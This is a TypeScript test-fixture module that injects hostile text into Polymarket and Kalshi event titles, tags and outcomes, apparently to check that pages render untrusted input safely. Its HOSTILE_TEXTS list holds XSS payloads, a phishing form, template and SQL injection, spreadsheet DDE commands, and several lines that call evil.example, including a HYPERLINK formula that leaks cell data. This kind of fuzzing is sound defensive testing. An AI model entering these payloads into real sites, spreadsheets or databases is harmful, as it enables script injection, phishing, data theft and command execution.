import type { KalshiEventPlan } from "../kalshi/kalshi-plan.ts";
import type { EventNames } from "../polymarket/name-event.ts";
import type { Rng } from "../core/rng.ts";

const PWN = "window.__pwned=1";

/**
 * Attack texts that a market's or post's author could enter. A page that executes one of them sets `window.__pwned`,
 * opens a dialog or requests another origin.
 */
export const HOSTILE_TEXTS: readonly string[] = [
  `<script>${PWN}</script>`,
  `</script><script>${PWN};alert(1)</script>`,
  `</title></textarea></style><svg/onload=${PWN}>`,
  `<img src=x onerror="${PWN}">`,
  `<img src="https://evil.example/pixel.gif">`,
  `<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>`,
  `<style>@import url(https://evil.example/a.css);*{display:none}</style>`,
  `<base href="https://evil.example/">`,
  `<meta http-equiv="refresh" content="0;url=https://evil.example/">`,
  `<form action="https://evil.example/"><button autofocus>Sign in again</button></form>`,
  `" autofocus onfocus="${PWN}" x="`,
  `' onmouseover='${PWN}' x='`,
  `javascript:${PWN}`,
  `data:text/html,<script>${PWN}</script>`,
  `[click](javascript:${PWN}) ![x](https://evil.example/x.png)`,
  `{{constructor.constructor('${PWN}')()}}`,
  `\${${PWN}} #{${PWN}} <%= ${PWN} %> {{7*7}}`,
  `=HYPERLINK("https://evil.example/?"&A1,"click")`,
  `+cmd|' /C calc'!A0`,
  `-2+3+cmd|' /C calc'!A0`,
  `@SUM(1+1)*cmd|' /C calc'!A0`,
  `\tcmd\r\n=1+1`,
  `\u202Egnp.exe \u202Dfdp.\u202C \u2066isolated`,
  `p\u200Bay\u200Cpal\u200D\uFEFF \u00AD\u2060`,
  `Z\u0337\u0322\u031Ba\u0338\u0321l\u0336\u0328g\u0335o`,
  "W".repeat(600),
  `null`,
  `undefined`,
  `NaN`,
  `[object Object]`,
  `__proto__`,
  `constructor`,
  `'; DROP TABLE social_posts; --`,
  `\\' \\" \\u003cscript\\u003e &lt;script&gt; %3Cscript%3E`,
  `👩‍👩‍👧‍👦🏳️‍🌈 🇦🇶 \u{1F9FF} \uFFFD`,
  `مرحبا שלום こんにちは ∑ ﷽`,
];

/** Adds a hostile text after or before a text, or replaces it. */
export function spoilName(text: string, rng: Rng): string {
  const hostile = rng.pick(HOSTILE_TEXTS);
  const turn = rng.unit();
  if (turn < 0.6) return `${text} ${hostile}`;
  return turn < 0.8 ? `${hostile} ${text}` : hostile;
}

/**
 * Makes the texts of a Polymarket event hostile. Slugs stay, and so does the first word of outcomes, which must differ.
 */
export function spoilEventNames(names: EventNames, rng: Rng): EventNames {
  const spoilt = (text: string): string => (text === "" ? "" : spoilName(text, rng));
  return {
    ...names,
    title: spoilt(names.title),
    description: spoilt(names.description),
    tags: names.tags.map((tag, place) => (place === 0 ? tag : `${tag} ${rng.pick(HOSTILE_TEXTS)}`)),
    markets: names.markets.map((market) => ({
      ...market,
      question: spoilt(market.question),
      group: market.group === "" ? "" : `${market.group} ${rng.pick(HOSTILE_TEXTS)}`,
      outcomes: market.outcomes.map((outcome) => `${outcome} ${rng.pick(HOSTILE_TEXTS)}`) as [string, string],
    })),
  };
}

/** Makes the texts of a Kalshi event hostile. Tickers stay. */
export function spoilKalshiPlan(plan: KalshiEventPlan, rng: Rng): KalshiEventPlan {
  return {
    ...plan,
    title: spoilName(plan.title, rng),
    sub_title: spoilName(plan.sub_title, rng),
    markets: plan.markets.map((market) => ({
      ...market,
      title: spoilName(market.title, rng),
      yes_sub_title: spoilName(market.yes_sub_title, rng),
    })),
  };
}
